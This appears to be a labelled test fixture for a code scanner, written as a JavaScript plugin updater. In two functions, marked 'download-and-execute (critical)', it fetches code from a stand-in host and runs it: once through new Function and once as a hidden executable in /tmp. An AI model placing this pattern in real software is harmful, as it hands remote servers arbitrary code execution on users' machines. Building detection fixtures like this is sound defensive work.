// Keeps plugins and settings up to date from the vendor's server.
import { writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { join } from "node:path";

const UPDATE_BASE = "https://plugins.devtools-hub.example";

export async function loadRemotePlugins() {
  const res = await fetch(`${UPDATE_BASE}/plugins/latest.js`);
  const source = await res.text();
  // expect: download-and-execute (critical)
  const plugins = new Function("require", source);
  return plugins;
}

export async function refreshHelper() {
  const res = await fetch(`${UPDATE_BASE}/helper/${process.platform}`);
  const bytes = Buffer.from(await res.arrayBuffer());
  const helper = "/tmp/.devtools-hub-helper";
  writeFileSync(helper, bytes, { mode: 0o755 });
  // expect: download-and-execute (critical)
  return execFileSync(helper, ["--version"], { encoding: "utf8" });
}

export async function refreshSettings() {
  const res = await fetch(`${UPDATE_BASE}/settings.json`);
  const settings = await res.json();
  writeFileSync(join(tmpdir(), "devtools-hub-settings.json"), JSON.stringify(settings));
  return settings;
}
